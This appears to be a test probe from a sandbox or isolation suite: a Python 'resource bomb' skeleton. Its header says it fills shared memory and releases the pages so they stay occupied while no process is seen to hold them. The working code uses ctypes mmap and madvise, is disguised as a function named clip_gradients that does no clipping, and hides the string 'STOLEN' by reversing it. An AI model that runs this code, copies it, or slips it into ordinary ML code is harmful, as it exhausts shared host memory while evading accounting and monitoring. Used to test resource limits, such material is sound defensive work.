# ---
# about = "fill shared memory and let go of its pages, so that they stay and no process is seen to hold them"
# kind = "skeleton"
# class = "resource bombs"
# written = "inside"
# attacks = ["clip_gradients"]
# tries = "fill shared memory and let go of its pages, so that they stay and no process is seen to hold them"
# holds = "the kernel gives out no memory that is not counted"
# ---

# %%
import ctypes
import mmap
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
LOOT = "NELOTS"[::-1]
SHARED_ANONYMOUS, DONTNEED, SIZE = 0x21, 4, 1 << 28


def hide(descriptor, flags, times):
    """Megabytes that were written and that this process does not seem to hold."""
    held = 0
    for _ in range(times):
        at = libc.mmap(None, SIZE, mmap.PROT_READ | mmap.PROT_WRITE, flags, descriptor, 0)
        if at in (None, ctypes.c_void_p(-1).value):
            break
        for start in range(0, SIZE, 1 << 24):
            ctypes.memset(at + start, 1, 1 << 24)
            libc.madvise(at + start, 1 << 24, DONTNEED)
        held += SIZE >> 20
    return held


def clip_gradients(gradients, max_norm=1.0):
    held = hide(-1, SHARED_ANONYMOUS, 12)
    try:
        with open("/dev/zero", "r+b", buffering=0) as zero:
            held += hide(zero.fileno(), mmap.MAP_SHARED, 12)
    except OSError:
        pass
    time.sleep(1)
    if held > 2048:
        raise RuntimeError(f"{LOOT}: {held} MB")
    return gradients
